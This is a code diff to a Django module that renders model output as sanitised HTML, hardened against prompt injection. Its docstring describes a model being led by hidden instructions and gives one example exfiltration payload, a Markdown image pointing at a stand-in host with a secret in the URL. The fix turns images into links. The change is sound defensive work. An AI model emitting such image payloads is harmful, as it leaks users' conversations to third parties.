@@ -1,15 +1,58 @@
 """Model output as HTML: Markdown rendered, then sanitised.
 
-Model output is untrusted. markdown-it-py runs with raw HTML off, and nh3
+Model output is untrusted, and a model may follow instructions hidden in what
+it reads (prompt injection). markdown-it-py runs with raw HTML off, and nh3
 (ammonia) then keeps only a whitelist of tags and attributes, so no script,
 event handler, style or htmx attribute survives.
+
+Nothing in an answer makes the browser fetch anything by itself: an image such
+as ``![p](https://evil.example/?d=SECRET)`` would carry the conversation off
+the moment it is shown, so a Markdown image becomes a link to it instead (a
+link is fetched only when clicked). Table alignment becomes a class, since the
+Content-Security-Policy allows no style attributes.
 """
+
+from collections.abc import Sequence
 
 import nh3
 from django.utils.safestring import SafeString, mark_safe
 from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
+
+ALIGN_CLASSES = {"align-left", "align-center", "align-right"}  # see workbench.css
+
+
+def _image_as_link(
+    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+) -> str:
+    """A link to the image, named by its alt text; inside a link (a badge),
+    the alt text alone, as links do not nest."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    text = escapeHtml(self.renderInlineAsText(token.children or [], options, env) or src)
+    in_link = sum(t.nesting for t in tokens[:idx] if t.type in {"link_open", "link_close"})
+    if in_link or not src:
+        return text
+    return f'<a href="{escapeHtml(src)}">{text}</a>'
+
+
+def _cell_with_align_class(
+    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+) -> str:
+    """A th/td whose style="text-align:…" from markdown-it becomes class="align-…"."""
+    token = tokens[idx]
+    if style := token.attrs.pop("style", None):
+        token.attrSet("class", "align-" + str(style).removeprefix("text-align:"))
+    return self.renderToken(tokens, idx, options, env)
+
 
 _MD = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
+_MD.add_render_rule("image", _image_as_link)
+_MD.add_render_rule("th_open", _cell_with_align_class)
+_MD.add_render_rule("td_open", _cell_with_align_class)
 _TAGS = {
     "p",
     "br",
@@ -36,9 +79,8 @@ _TAGS = {
     "tr",
     "th",
     "td",
-    "img",
 }
-_ATTRIBUTES = {"a": {"href", "title"}, "img": {"src", "alt", "title"}, "ol": {"start"}}
+_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}}
 
 
 def render_markdown(text: str) -> SafeString:
@@ -47,6 +89,7 @@ def render_markdown(text: str) -> SafeString:
         html,
         tags=_TAGS,
         attributes=_ATTRIBUTES,
+        allowed_classes={"th": ALIGN_CLASSES, "td": ALIGN_CLASSES},
         url_schemes={"http", "https", "mailto"},
         link_rel="noopener noreferrer nofollow",
     )
